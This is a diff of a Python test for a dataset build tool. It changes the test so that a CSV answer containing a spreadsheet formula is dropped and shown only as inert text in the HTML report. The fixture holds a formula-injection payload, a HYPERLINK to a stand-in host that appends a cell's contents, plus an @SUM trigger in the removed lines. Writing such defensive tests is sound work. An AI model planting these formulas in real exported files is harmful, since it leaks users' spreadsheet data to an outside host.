@@ -156,21 +156,17 @@ def test_pictures_outside_of_the_root(run, root, picture, tmp_path, write_json):
     }  # fmt: skip
 
 
-def test_a_csv_formula_stays_a_text(run, root, picture, tmp_path):
-    """No file of a build is a spreadsheet, so a formula is a text like any other, to the letter."""
+def test_a_csv_formula_is_refused_and_shown_as_text(run, root, picture, tmp_path):
     picture(root / "1.jpg", 1)
     path = tmp_path / "q.csv"
-    formula = '=HYPERLINK("http://x/?"&A1,"click")'
-    path.write_text(
-        f'image,question,answer\n1.jpg,@SUM(A1),"{formula.replace(chr(34), chr(34) * 2)}"\n'
-    )
-    _, records, result = run("custom_vqa", [path])
-    assert records[0]["messages"][1]["content"] == formula
+    formula = '=HYPERLINK(""http://x/?""&A1,""click"")'
+    path.write_text(f'image,question,answer\n1.jpg,q,"{formula}"\n1.jpg,How warm?,-3\n')
+    report, records, result = run("custom_vqa", [path])
+    assert report["dropped"] == {"spreadsheet_formula": 1}
+    assert [r["messages"][1]["content"] for r in records] == ["-3"]
     assert {p.suffix for p in result.out.iterdir()} == {".jsonl", ".json", ".html"}
     page = (result.out / "report.html").read_text()
-    assert (
-        "=HYPERLINK(&#34;http" in page and "href=" not in page.split("<main", 1)[1].split("=HYP")[1]
-    )
+    assert "=HYPERLINK(" in page and 'href="http' not in page
 
 
 def test_markup_in_every_foreign_text(run, root, picture, tmp_path, write_json, page):
